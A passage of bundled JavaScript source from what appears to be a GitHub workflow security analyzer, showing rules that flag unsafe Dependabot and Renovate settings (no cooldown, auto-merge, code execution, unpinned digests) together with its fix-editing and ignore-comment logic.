    return { isAll, pins: pinsOf(managers, datasources), datasource: datasourceOf(managers, datasources) };
}
function takesAll(node) {
    return textsIn(node).some(({ value }) => ["*", "**", ".*", "/.*/"].includes(value));
}
function coversUpdates(types) {
    return ["major", "minor", "patch"].every((type) => types.includes(type));
}
function pinsOf(managers, datasources) {
    if (managers.length === 0 && datasources.length === 0)
        return ["actions", "docker"];
    const isDocker = datasources.includes("docker") || managers.some((name) => /docker|helm|kubernetes/.test(name));
    const isActions = managers.includes("github-actions") || datasources.some((name) => /^github-(?:tags|digest|runners)/.test(name));
    return [...(isActions ? ["actions"] : []), ...(isDocker ? ["docker"] : [])];
}
function datasourceOf(managers, datasources) {
    const [only, ...others] = new Set([...managers, ...datasources]);
    return only !== undefined && others.length === 0 ? only : null;
}
class State {
    releaseAge = { value: null, node: null };
    ruleAges = [];
    pins = {
        actions: { value: false, node: null },
        docker: { value: false, node: null },
    };
    /** Days that go for one datasource only. */
    ageOf = new Map();
    automerges = [];
    extend(name, node, ignored) {
        const preset = ignored.has(name) ? undefined : PRESETS.get(name);
        if (!preset)
            return;
        for (const other of preset.extends ?? [])
            this.extend(other, node, ignored);
        for (const [kind, value] of Object.entries(preset.pins ?? {}))
            this.pins[kind] = { value, node };
        if (preset.releaseAge)
            this.ageOf.set(preset.releaseAge.datasource, preset.releaseAge.days);
        if (preset.automerge === false)
            this.automerges = [];
        if (preset.automerge)
            this.automerges.push({ node, days: null });
    }
    settings(map, scope) {
        const age = ageIn(map);
        if (age && scope.isAll) {
            this.releaseAge = age;
            this.ruleAges.length = 0;
        }
        else if (age)
            this.ruleAges.push(age);
        if (age && scope.datasource !== null)
            this.ageOf.set(scope.datasource, age.value);
        const pin = map.scalar("pinDigests");
        if (typeof pin?.typed === "boolean")
            for (const kind of scope.pins)
                this.pins[kind] = { value: pin.typed, node: pin };
        const automerge = map.scalar("automerge");
        if (automerge?.typed === false && scope.isAll)
            this.automerges = [];
        const known = scope.datasource === null ? undefined : this.ageOf.get(scope.datasource);
        if (automerge?.typed === true)
            this.automerges.push({ node: automerge, days: age?.value ?? known ?? null });
    }
    verdict() {
        const { releaseAge, ruleAges, pins } = this;
        const automerges = this.automerges.map(({ node, days }) => ({ node, days: days ?? releaseAge.value }));
        return { releaseAge, ruleAges, pins, automerges };
    }
}
/** `minimumReleaseAge`, or `stabilityDays`, as it was called; what can't be read says nothing. */
function ageIn(map) {
    const age = map.scalar("minimumReleaseAge");
    if (age) {
        const days = age.isNull ? 0 : daysOf(age.value);
        return days === undefined ? undefined : { value: days, node: age };
    }
    const stability = map.scalar("stabilityDays");
    return typeof stability?.typed === "number" ? { value: stability.typed, node: stability } : undefined;
}
function rulesIn(root) {
    const items = root.seq("packageRules")?.items ?? [];
    return items.flatMap(({ value }) => (value.kind === "map" ? [value] : []));
}
function textsIn(node) {
    const nodes = node?.kind === "seq" ? node.items.map(({ value }) => value) : node ? [node] : [];
    return nodes.filter((value) => value.kind === "scalar" && typeof value.typed === "string");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/automerge-without-cooldown.js




const MERGE = `on: pull_request
permissions: {}
jobs:
  merge:
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    runs-on: ubuntu-latest
    permissions: {contents: write, pull-requests: write}
    steps:
      - run: gh pr merge --auto --squash "$URL"
        env:
          URL: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ github.token }}
`;
const updates = (cooldown) => `version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n${cooldown}`;
/* harmony default export */ const automerge_without_cooldown = (defineRule({
    id: "automerge-without-cooldown",
    category: "updates",
    severity: "medium",
    summary: "Updates are merged by themselves as soon as they are released",
    risk: "A malicious release is in the default branch, with all that runs there, before anybody could have found it, and nobody looked at it.",
    mend: "Let updates wait: `minimumReleaseAge` in Renovate, `cooldown` in Dependabot. Or let a person merge them.",
    sources: [
        "https://docs.renovatebot.com/key-concepts/automerge/",
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/automating-dependabot-with-github-actions",
    ],
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        for (const { node, days } of judgeRenovate(renovate)?.automerges ?? []) {
            if ((days ?? 0) > 0)
                continue;
            report(node, "Renovate merges releases as soon as they are there: no `minimumReleaseAge` holds them back");
        }
    },
    step(step, report) {
        const merge = dependabotMerge(step);
        const hasty = merge && hastyUpdate(report.repository);
        if (hasty)
            speak(merge, hasty, step);
        function speak(place, update, { owner }) {
            const what = update.ecosystem ? `updates of \`${update.ecosystem.value}\`` : "updates";
            const message = `Dependabot's pull requests are merged by themselves, and no \`cooldown\` holds ${what} back`;
            report(place, message, {
                confidence: owner.kind === "composite" ? "low" : "medium",
                related: [{ place: update.map.entries[0]?.key ?? update.map, message: "these don't wait" }],
            });
        }
    },
}));
/** The first entry that says nothing of waiting, or that waits for nothing: the platform's few days may be none on a server of one's own. */
function hastyUpdate({ dependabot }) {
    const all = dependabot.flatMap(({ updates }) => updates).filter(({ makesVersionUpdates }) => makesVersionUpdates);
    return all.find((update) => !update.cooldown || ((0,model/* cooldownDays */.zG)(update) ?? model/* PLATFORM_COOLDOWN_DAYS */.qG) === 0);
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/index.js + 3 modules
var lib_config = __nccwpck_require__(1713);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/dependabot-cooldown.js





const KEY = "default-days";
/* harmony default export */ const dependabot_cooldown = (defineRule({
    id: "dependabot-cooldown",
    category: "updates",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "Dependabot takes versions that are only a few days old",
    risk: "Most malicious releases are found and removed within days. Whoever takes a version as soon as it is there is among the first that it runs at.",
    mend: "Set `cooldown: {default-days: 7}` in the update entry. Security updates don't wait for it.",
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-",
        "https://docs.zizmor.sh/audits/#dependabot-cooldown",
    ],
    options: { days: (0,lib_config/* numberOption */.jZ)(7, "How many days old a version must be at least") },
    examples: { flagged: [], silent: [] },
    dependabot(dependabot, report) {
        const { days } = report.options;
        for (const update of dependabot.updates) {
            const effective = (0,model/* cooldownDays */.zG)(update);
            if (!update.makesVersionUpdates || effective === undefined || effective >= days)
                continue;
            const edit = setIn(update.map, "cooldown", KEY, String(days));
            report(placeOf(update), `Versions are taken when they are ${effective} days old, before ${days} have passed`, {
                fix: edit && { description: `set \`cooldown.${KEY}: ${days}\``, safe: true, edits: [edit] },
            });
        }
    },
}));
function placeOf({ map, cooldown }) {
    return cooldown?.scalar(KEY) ?? map.entry("cooldown")?.key ?? firstLineOf(map);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/dependabot-execution.js


const dependabot_execution_KEY = "insecure-external-code-execution";
const entry = (setting) => `version: 2
updates:
  - package-ecosystem: bundler
    directory: /
    schedule: {interval: weekly}
${setting}`;
/* harmony default export */ const dependabot_execution = (defineRule({
    id: "dependabot-execution",
    category: "updates",
    severity: "high",
    isZizmor: true,
    fixes: "unsafe",
    summary: "Dependabot runs the code of packages while it updates them",
    risk: "A package that isn't reviewed yet runs with the credentials of the registries that the update may read.",
    mend: `Remove \`${dependabot_execution_KEY}\`, or set it to \`deny\`. Updates of packages that need their own code to be resolved then fail, and have to be made by hand.`,
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/dependabot-options-reference#insecure-external-code-execution--",
        "https://docs.zizmor.sh/audits/#dependabot-execution",
    ],
    examples: { flagged: [], silent: [] },
    dependabot(dependabot, report) {
        for (const { map } of dependabot.updates) {
            const setting = map.entry(dependabot_execution_KEY);
            if (setting?.value.kind !== "scalar" || setting.value.value !== "allow")
                continue;
            const edit = setValue(setting, "deny");
            report(setting.value, "Dependabot may run code of the packages that it updates", {
                fix: edit && { description: `set \`${dependabot_execution_KEY}: deny\``, safe: false, edits: [edit] },
            });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/json-edits.js
/** Edits of a JSON or JSON5 file that follow the style of what stands there and leave every other byte as it is. */
/** Adds a member at the end of an object; null where the text isn't what it seems. */
function insertMember(map, key, value) {
    return insertLast(map, map.entries.at(-1)?.key.start, `${JSON.stringify(key)}: ${value}`);
}
/** Adds an element at the end of an array. */
function insertElement(seq, value) {
    return insertLast(seq, seq.items.at(-1)?.value.start, value);
}
function insertLast(holder, lastStart, text) {
    const { file, start } = holder;
    const last = holder.kind === "map" ? holder.entries.at(-1)?.value : holder.items.at(-1)?.value;
    if (!last || lastStart === undefined)
        return { start: start + 1, end: start + 1, text };
    // In JSON5 a comma may stand behind the last one already; a comment there is left alone.
    const comma = /^\s*,/.exec(file.text.slice(last.end, holder.end))?.[0].length ?? 0;
    const at = last.end + comma;
    const from = file.text.lastIndexOf("\n", lastStart - 1) + 1;
    const before = file.text.slice(from, lastStart);
    const isOwnLine = from > start && before.trim() === "";
    const gap = isOwnLine ? `${file.text[from - 2] === "\r" ? "\r\n" : "\n"}${before}` : " ";
    return { start: at, end: at, text: comma > 0 ? `${gap}${text},` : `,${gap}${text}` };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/renovate-cooldown.js






const renovate_cooldown_KEY = "minimumReleaseAge";
/* harmony default export */ const renovate_cooldown = (defineRule({
    id: "renovate-cooldown",
    category: "updates",
    severity: "medium",
    fixes: "safe",
    summary: "Renovate takes versions that are only a few days old",
    risk: "Most malicious releases are found and removed within days. Whoever takes a version as soon as it is there is among the first that it runs at.",
    mend: 'Set `"minimumReleaseAge": "7 days"`. Security updates don\'t wait for it.',
    sources: [
        "https://docs.renovatebot.com/key-concepts/minimum-release-age/",
        "https://docs.renovatebot.com/presets-config/#configbest-practices",
    ],
    options: { days: (0,lib_config/* numberOption */.jZ)(7, "How many days old a version must be at least") },
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        const verdict = judgeRenovate(renovate);
        if (!verdict)
            return;
        const { days } = report.options;
        const { releaseAge, ruleAges } = verdict;
        if ((releaseAge.value ?? 0) < days) {
            const waits = releaseAge.value === null ? "Versions are taken as soon as they are there" : tooSoon(releaseAge.value);
            report(releaseAge.node ?? firstLineOf(renovate.root), waits, {
                fix: renovate_cooldown_fixOf(renovate.root, releaseAge.node, days),
            });
        }
        for (const { value, node } of ruleAges) {
            if (value < days && node)
                report(node, tooSoon(value), { fix: renovate_cooldown_fixOf(renovate.root, node, days) });
        }
    },
}));
function tooSoon(days) {
    return `Versions are taken when they are ${Number(days.toFixed(2))} days old`;
}
function renovate_cooldown_fixOf(root, node, days) {
    const value = JSON.stringify(`${days} days`);
    // `stabilityDays` holds a number.
    const holder = node && [root, ...mapsBelow(root)].find((map) => map.get(renovate_cooldown_KEY) === node);
    const entry = holder?.entry(renovate_cooldown_KEY);
    const edit = node ? (entry ? setValue(entry, value) : null) : insertMember(root, renovate_cooldown_KEY, value);
    return edit && { description: `set \`${renovate_cooldown_KEY}\` to ${value}`, safe: true, edits: [edit] };
}
function mapsBelow(root) {
    const rules = root.seq("packageRules")?.items ?? [];
    return rules.flatMap(({ value }) => (value.kind === "map" ? [value] : []));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/renovate-pinning.js




const WORKFLOW = `on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.0.0
`;
const renovate_pinning_FILES = { ".github/workflows/ci.yml": WORKFLOW };
const PRESET = {
    actions: "helpers:pinGitHubActionDigests",
    docker: "docker:pinDigests",
};
const WORDS = { actions: "actions", docker: "images" };
/* harmony default export */ const renovate_pinning = (defineRule({
    id: "renovate-pinning",
    category: "updates",
    severity: "low",
    fixes: "safe",
    summary: "Renovate doesn't pin what it updates",
    risk: "An action or image that Renovate adds or updates goes by a tag, which its owner, or whoever takes over the account, can move to other code.",
    mend: "Extend `helpers:pinGitHubActionDigests` and `docker:pinDigests`, or `config:best-practices`, which holds both.",
    sources: [
        "https://docs.renovatebot.com/presets-helpers/#helperspingithubactiondigests",
        "https://docs.renovatebot.com/docker/#digest-pinning",
    ],
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        const verdict = judgeRenovate(renovate);
        if (!verdict)
            return;
        const open = usedIn(report.repository, verdict).filter((kind) => !verdict.pins[kind].value);
        if (open.length === 0)
            return;
        const place = open.map((kind) => verdict.pins[kind].node).find((node) => node !== null);
        const message = `The ${open.map((kind) => WORDS[kind]).join(" and ")} that Renovate updates aren't pinned to digests`;
        report(place ?? firstLineOf(renovate.root), message, { fix: place ? null : renovate_pinning_fixOf(renovate, open) });
    },
}));
function usedIn(repository, { updatesActions }) {
    const hasActions = updatesActions && repository.uses().some(({ target }) => target.kind === "repository");
    return [
        ...(hasActions ? ["actions"] : []),
        ...(repository.dockerfiles.length > 0 ? ["docker"] : []),
    ];
}
function renovate_pinning_fixOf({ root }, open) {
    const presets = open.map((kind) => JSON.stringify(PRESET[kind])).join(", ");
    const list = root.seq("extends");
    if (!list && root.get("extends"))
        return null;
    const edit = list ? insertElement(list, presets) : insertMember(root, "extends", `[${presets}]`);
    return edit && { description: `extend ${presets}`, safe: true, edits: [edit] };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/ecosystems.js
/** Dependabot's names of ecosystems by the files that show them. */
const MANIFESTS = [
    [/^(?:package\.json|\.npmrc|\.yarnrc(?:\.yml)?|pnpm-workspace\.yaml)$/, "npm"],
    [/^bunfig\.toml$/, "bun"],
    [/^(?:requirements.*\.txt|pyproject\.toml|pip\.conf|pipfile)$/i, "pip"],
    [/^uv\.toml$/, "uv"],
    [/^go\.mod$/, "gomod"],
    [/^cargo\.toml$/i, "cargo"],
    [/^gemfile$/i, "bundler"],
    [/^composer\.json$/, "composer"],
    [/^pom\.xml$/, "maven"],
    [/^(?:build|settings)\.gradle(?:\.kts)?$/, "gradle"],
    [/^nuget\.config$/i, "nuget"],
    [/^(?:.*\.)?(?:docker|container)file(?:\..*)?$/i, "docker"],
];
/** The first file of each ecosystem that the repository shows, but for the actions. */
function manifestsOf({ files }) {
    const found = new Map();
    for (const { path } of files) {
        const name = path.slice(path.lastIndexOf("/") + 1);
        const ecosystem = MANIFESTS.find(([pattern]) => pattern.test(name))?.[1];
        if (ecosystem !== undefined && !found.has(ecosystem))
            found.set(ecosystem, { path, ecosystem });
    }
    return [...found.values()];
}
/** Ecosystems that Dependabot knows under several names, or that read the same files. */
const ALSO = {
    npm: ["bun"],
    pip: ["uv", "conda"],
    docker: ["docker-compose", "helm"],
};
/** Does an entry of Dependabot's for `given` keep `ecosystem` up to date? */
function isCoveredBy(ecosystem, given) {
    return given === ecosystem || (ALSO[ecosystem]?.includes(given) ?? false);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/updates-not-configured.js




const updates_not_configured_WORKFLOW = `on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.0.0
`;
const updates_not_configured_FILES = { ".github/workflows/ci.yml": updates_not_configured_WORKFLOW };
const ACTIONS = "github-actions";
/* harmony default export */ const updates_not_configured = (defineRule({
    id: "updates-not-configured",
    category: "updates",
    severity: "low",
    fixes: "unsafe",
    summary: "Nothing keeps the actions up to date",
    risk: "A pinned action stays what it is, with the holes that are found in it later: nobody is told that there is a mended version.",
    mend: "Add an entry for `github-actions` to `.github/dependabot.yml`, with a cooldown, or let Renovate do it.",
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/keeping-your-actions-up-to-date-with-dependabot",
        "https://docs.renovatebot.com/modules/manager/github-actions/",
    ],
    examples: { flagged: [], silent: [] },
    repository(repository, report) {
        if (report.isPartial)
            return;
        const uses = repository.uses().find(({ target }) => target.kind === "repository");
        if (uses && !updatesActions(repository)) {
            const [dependabot] = repository.dependabot;
            report(updates_not_configured_placeIn(dependabot, uses.scalar), "Nothing keeps the actions that are used here up to date", {
                fix: dependabot ? updates_not_configured_fixOf(dependabot) : null,
            });
        }
        if (report.persona !== "regular")
            judgeOthers(repository, report);
    },
}));
/** Renovate takes care of everything that it finds. */
function updatesActions(repository) {
    if (repository.renovate.some((renovate) => !isOff(renovate) && (judgeRenovate(renovate)?.updatesActions ?? true)))
        return true;
    return updatesOf(repository).some((update) => update.ecosystem?.value === ACTIONS && coversRoot(update));
}
function updatesOf({ dependabot }) {
    return dependabot.flatMap(({ updates }) => updates);
}
/** For actions `/` stands for `.github/workflows` and for an `action.yml` at the root. */
function coversRoot({ directories }) {
    return directories.some(({ value }) => {
        const folder = value.replace(/^\/|\/$/g, "");
        return folder === "" || folder === "." || folder === ".github/workflows" || (0,config_globs/* globMatcher */.f)(folder)("");
    });
}
/** At the first line, without its text: that says nothing of what is missing. */
function updates_not_configured_placeIn(dependabot, uses) {
    return dependabot?.root.entry("updates")?.key ?? { file: uses.file, start: 0, end: 0 };
}
function judgeOthers(repository, report) {
    if (repository.renovate.length > 0)
        return;
    const given = updatesOf(repository).flatMap(({ ecosystem }) => ecosystem?.value ?? []);
    for (const { path, ecosystem } of manifestsOf(repository)) {
        const place = repository.dependabot[0]?.root.entry("updates")?.key;
        if (!place || given.some((name) => isCoveredBy(ecosystem, name)))
            continue;
        report(place, `Nothing keeps the packages of \`${path}\` (${ecosystem}) up to date`, { persona: "pedantic" });
    }
}
/** A further entry, in the style of those that are there. */
function updates_not_configured_fixOf({ root }) {
    const updates = root.seq("updates");
    const last = updates?.items.at(-1)?.value;
    if (!updates || updates.flow || last?.kind !== "map" || last.flow)
        return null;
    return {
        description: "add an entry for `github-actions`",
        safe: false,
        edits: [{ ...updates_not_configured_endOf(updates), text: entryText(updates, last.start) }],
    };
}
function updates_not_configured_endOf({ file, end }) {
    const at = file.text.slice(0, end).trimEnd().length;
    const lineFeed = file.text.indexOf("\n", at);
    // A comment behind the last value stays with it.
    const line = lineFeed === -1 ? file.text.length : lineFeed;
    const start = file.text[line - 1] === "\r" ? line - 1 : line;
    return { start, end: start };
}
function entryText({ file }, first) {
    const newline = /\r?\n/.exec(file.text)?.[0] ?? "\n";
    const { column } = file.position(first);
    const inner = " ".repeat(column - 1);
    const dash = `${inner.slice(2)}- `;
    const lines = ["directory: /", "schedule:", "  interval: weekly", "cooldown:", "  default-days: 7"];
    return [`${dash}package-ecosystem: ${ACTIONS}`, ...lines.map((line) => inner + line)]
        .map((line) => newline + line)
        .join("");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/index.generated.js

































/** Every rule, sorted by id. */
const RULES = [
    actions_lock_mismatch,
    archived_uses,
    artipacked,
    automerge_without_cooldown,
    compromised_action,
    dangerous_triggers,
    dependabot_cooldown,
    dependabot_execution,
    excessive_permissions,
    forbidden_uses,
    github_env,
    hardcoded_container_credentials,
    impostor_commit,
    insecure_commands,
    known_vulnerable_actions,
    ref_confusion,
    ref_version_mismatch,
    renamed_repository,
    renovate_cooldown,
    renovate_pinning,
    secrets_inherit,
    self_hosted_runner,
    stale_action_refs,
    suppression_without_reason,
    template_injection,
    transitive_unpinned,
    unpinned_base_image,
    unpinned_images,
    unpinned_uses,
    unreadable_file,
    unresolvable_ref,
    unused_suppression,
    updates_not_configured,
];

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/comments.js




/** Marks what ignore comments silence, and adds what is to be said about the comments themselves. */
function applyIgnoreComments(repository, findings, options) {
    const byPath = groupByPath(findings);
    const result = [];
    for (const document of [...repository.documents, ...repository.dockerfiles]) {
        const { path, text } = document.file;
        if (!options.isJudged(path))
            continue;
        const own = byPath.get(path) ?? [];
        byPath.delete(path);
        // Not `push(...)`: there may be more than a call takes.
        for (const finding of (0,lib/* mayHoldIgnores */.Qo)(text) ? applyToFile(document, own, options) : own)
            result.push(finding);
    }
    for (const rest of byPath.values())
        for (const finding of rest)
            result.push(finding);
    return result;
}
function groupByPath(findings) {
    const groups = new Map();
    for (const finding of findings) {
        const group = groups.get(finding.location.path);
        if (group)
            group.push(finding);
        else
            groups.set(finding.location.path, [finding]);
    }
    return groups;
}
function applyToFile(document, findings, options) {
    const { rules } = options;
    const comments = document
        .comments()
        .map((comment) => ({ ...comment, line: document.file.position(comment.start).line }));
    const silenced = (0,lib/* applyComments */.XX)(findings, comments, {
        isZizmorRule: (id) => rules.find((rule) => rule.id === id)?.isZizmor === true,
        alsoLines: (finding) => finding.alsoLines,
        partLines: (finding) => finding.partLines,
    });
    // Distances between words are costly, and a file may name the same unknown rule thousands of times.
    const unusedMessages = new Map();
    for (const { rule } of silenced.unused) {
        if (!unusedMessages.has(rule))
            unusedMessages.set(rule, unusedMessage(rule, rules));
    }
    const drafts = [
        ...silenced.withoutReason.map(({ comment }) => draft(document, "suppression-without-reason", comment, NO_REASON, options)),
        ...silenced.malformed.map((comment) => draft(document, "suppression-without-reason", comment, MALFORMED, options)),
        ...silenced.unused.map(({ ignore, rule }) => {
            const message = unusedMessages.get(rule);
            return message == null ? null : draft(document, "unused-suppression", ignore.comment, message, options);
        }),
    ];
    return [...silenced.findings, ...(0,lib/* fingerprintFindings */.f5)(drafts.filter((finding) => finding !== null))];
}
const MALFORMED = "This reads like an ignore comment, but silences nothing: write `# trustchain: ignore[rule-id] reason`";
const NO_REASON = "This ignore comment gives no reason, so it silences nothing";
/** Null where the rule exists but took no part: nobody knows then whether the comment is of use. */
function unusedMessage(rule, rules) {
    if (rules.some(({ id }) => id === rule))
        return `There is no finding of \`${rule}\` here to ignore`;
    const all = RULES.map(({ id }) => id);
    return all.includes(rule) ? null : `There is no rule \`${rule}\`${(0,action_kit_lib/* didYouMean */.au)(rule, all)}`;
}
/** Null when the rule doesn't take part in the run. */
function draft(document, id, comment, message, { rules, persona }) {
    const rule = rules.find((candidate) => candidate.id === id);
    if (!rule || !(0,lib/* isHeardBy */.it)(rule.persona, persona))
        return null;
    const { file } = document;
    return {
        rule: id,
        severity: rule.severity,
        confidence: "high",
        persona: rule.persona,
        message,
        location: locate({ file, start: comment.start, end: comment.end }),
        related: [],
        witness: null,
        fix: null,
        anchor: comment.text.trim(),
        alsoLines: [],
        partLines: null,
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/judge.js









/**
 * Reads and judges one repository.
 *
 * @param root its folder
 */
async function analyzeRepository(root, options = {}) {
    const config = options.config ?? lib_config/* NO_CONFIG */.H5;
    const repository = await readRepository(root, {
        isIgnored: config.isIgnored,
        only: options.only ?? null,
        ...(options.edited && { edited: options.edited }),
    });
    return judge_judge(repository, { ...options, config });
}
/** Judges a repository that has been read. */
async function judge_judge(repository, options = {}) {
    const config = options.config ?? lib_config/* NO_CONFIG */.H5;
    const persona = options.persona ?? config.persona ?? "regular";
    const only = options.only ? new Set(options.only) : null;
    const isJudged = (path) => only === null || only.has(path);
    const rules = (options.rules ?? RULES).filter((rule) => config.rules.get(rule.id)?.isOff !== true);
    if (config.facts.size > 0)
        repository.facts = new facts/* Facts */.At(config.facts);
    await (0,lib_shell/* prepareShells */.ZJ)();
    const rulesOver = () => analyze(repository, {
        rules,
        // Whether a comment silences nothing shows only when everything that it may speak of is looked for.
        persona: persona === "pedantic" ? "auditor" : persona,
        personas: personasOf(config),
        options: optionsOf(rules, config, options.options),
        ...(options.isUsesJudged && { isUsesJudged: options.isUsesJudged }),
        isJudged,
        isPartial: only !== null,
    });
    const { analysis, refused } = await withUpstream(repository, options.upstream ?? null, rulesOver);
    const { findings: drafts, errors } = analysis;
    const settled = applySettings((0,lib/* fingerprintFindings */.f5)(drafts), config);
    const silenced = applyIgnoreComments(repository, settled, { rules, persona, isJudged });
    return {
        findings: (0,lib/* sortFindings */.Tc)(silenced.filter((finding) => (0,lib/* isHeardBy */.it)(finding.persona, persona))),
        errors: refused ? [refused, ...errors] : errors,
        files: [...repository.sources.keys()].filter(isJudged).length,
        sources: repository.sources,
    };
}
/**
 * Judges with what is to be known of other repositories; rules may ask for more, and are heard again once it is there.
 * Without an answer the rest is judged all the same, and no fix is made of what is not known.
 */
async function withUpstream(repository, upstream, rulesOver) {
    if (!upstream)
        return { analysis: rulesOver(), refused: null };
    try {
        await upstream.load(repository);
        repository.upstream = upstream;
        const analysis = rulesOver();
        return { analysis: (await upstream.answer()) ? rulesOver() : analysis, refused: null };
    }
    catch (error) {
        if (!(error instanceof action_kit_lib/* UserError */.yo))
            throw error;
        repository.upstream = null;
        const refused = { path: error.place, line: 1, rule: null, message: `${error.reason}: ${error.remedy}` };
        return { analysis: rulesOver(), refused };
    }
}
function optionsOf(rules, config, given = new Map()) {
    return new Map(rules.map(({ id }) => [id, { ...config.rules.get(id)?.options, ...given.get(id) }]));
}
function personasOf(config) {
    return new Map([...config.rules].flatMap(([id, { persona }]) => (persona ? [[id, persona]] : [])));
}
/** The severities that settings give, and the places that they silence. */
function applySettings(findings, config) {
    if (config.rules.size === 0)
        return findings;
    return findings.map((finding) => {
        const settings = config.rules.get(finding.rule);
        if (!settings)
            return finding;
        const { path, startLine } = finding.location;
        const isIgnored = settings.ignore.some(({ matches, line }) => matches(path) && (line === null || line === startLine));
        const reason = settings.reason ?? `ignored in ${config.path}`;
        return {
            ...finding,
            severity: settings.severity ?? finding.severity,
            suppressed: isIgnored ? { by: "config", reason } : finding.suppressed,
        };
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/same-meaning.js
/**
 * Did edits change only what they touch? Every node that no edit reaches must be there afterwards, with the same value;
 * in a mapping that an edit reaches, keys may be added.
 *
 * @param edits as they were applied to the text of `before`
 */
function keepsMeaning(before, after, edits) {
    return keeps(before, after, edits, edits);
}
/** @param near those of all edits that may reach the node, or what it holds */
function keeps(before, after, near, all) {
    if (!before || !after)
        return before === after;
    const touching = touchingOf(before, near);
    if (touching.length === 0)
        return same_meaning_isSame(before, after, all);
    if (before.kind === "scalar")
        return true;
    if (before.kind !== after.kind)
        return false;
    if (before.kind === "seq" && after.kind === "seq") {
        // Items may be added at the end.
        return (before.items.length <= after.items.length &&
            before.items.every((item, i) => keeps(item.value, after.items[i]?.value, item.alias ? all : touching, all)));
    }
    return before.kind === "map" && after.kind === "map" && keepsEntries(before.entries, after.entries, touching, all);
}
function keepsEntries(before, after, near, all) {
    const left = [...after];
    return before.every((entry) => {
        if (near.some((edit) => edit.start <= entry.key.start && edit.end > entry.key.start))
            return true;
        const index = left.findIndex((other) => other.key.value === entry.key.value);
        if (index === -1)
            return false;
        const [match] = left.splice(index, 1);
        return keeps(entry.value, match.value, entry.alias ? all : near, all);
    });
}
function touchingOf(node, edits) {
    const end = node.kind === "scalar" && !node.isEmpty ? node.end : lineEnd(node);
    return edits.filter((edit) => touches(edit, node, end));
}
/** Collections are touched at their ends, too: that is where keys are added. Scalars only inside. */
function touches(edit, node, end) {
    if (node.kind === "scalar" && !node.isEmpty) {
        return edit.start === edit.end
            ? edit.start > node.start && edit.start < node.end
            : edit.start < node.end && edit.end > node.start;
    }
    return edit.start <= end && edit.end >= node.start;
}
/** A comment behind a collection's last value belongs to its line. */
function lineEnd(node) {
    const { text } = node.file;
    let end = node.end;
    while (end < text.length && text[end] !== "\n" && text[end] !== "\r")
        end++;
    return end;
}
/** An alias stands where no edit reaches, and still changes with its anchor. */
function same_meaning_isSame(a, b, edits) {
    const same = (left, right, alias) => alias ? keeps(left, right, edits, edits) : same_meaning_isSame(left, right, edits);
    if (a.kind === "scalar")
        return b.kind === "scalar" && a.value === b.value && Object.is(a.typed, b.typed) && a.tag === b.tag;
    if (a.kind === "seq") {
        return (b.kind === "seq" &&
            a.items.length === b.items.length &&
            a.items.every((item, i) => same(item.value, b.items[i].value, item.alias)));
    }
    return (b.kind === "map" &&
        a.entries.length === b.entries.length &&
        a.entries.every((entry, i) => {
            const other = b.entries[i];
            return entry.key.value === other.key.value && same(entry.value, other.value, entry.alias);
        }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/place.js
function place_placeOf({ rule, location }, { sources }) {
    const { path, startLine, startColumn } = location;
    const lineStart = sources.get(path)?.lineStarts[startLine - 1] ?? 0;
    return { rule, path, offset: lineStart + startColumn - 1 };
}
function place_keyOf({ rule, path, offset }) {
    return `${rule}\0${path}\0${offset}`;
}
/** Where it is after edits; what they take the place of begins where they begin. */
function moved(place, edits) {
    let by = 0;
    for (const { start, end, text } of edits.get(place.path) ?? []) {
        if (end <= place.offset)
            by += text.length - (end - start);
        else if (start < place.offset)
            by += start - place.offset;
    }
    return { ...place, offset: place.offset + by };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/fix.js







/** Fixes may make room for others, and some are refused on the way; more rounds would mean that two rules undo each other. */
const MAX_ROUNDS = 20;
/**
 * Applies fixes until none is left: each round takes those that don't overlap, checks every file that they change, and
 * judges the repository again. A fix after which its finding still stands is taken back. Nothing is written; see
 * `writeChanged`.
 *
 * @param rejudge judges the repository with these texts in place of what is on disk
 */
async function applyFixes(first, mode, rejudge) {
    const refused = new Refused();
    const edited = new Map();
    const mended = [];
    let judgement = first;
    for (let rounds = 0; rounds < MAX_ROUNDS; rounds++) {
        const round = await applyRound(judgement, mode, refused);
        if (round === "again")
            continue;
        if (round.edits.size === 0)
            break;
        const before = new Map(edited);
        for (const [path, edits] of round.edits)
            edited.set(path, (0,lib/* applyEdits */.ct)(fix_textOf(judgement, path), edits));
        const after = await rejudge(edited);
        const standing = stillStanding(round, judgement, after);
        if (standing.length === 0) {
            judgement = after;
            mended.push(...round.applied);
            refused.follow(round.edits);
            continue;
        }
        for (const finding of standing)
            refused.add(finding, judgement, "the finding would still stand");
        for (const path of round.edits.keys())
            restore(edited, before, path);
    }
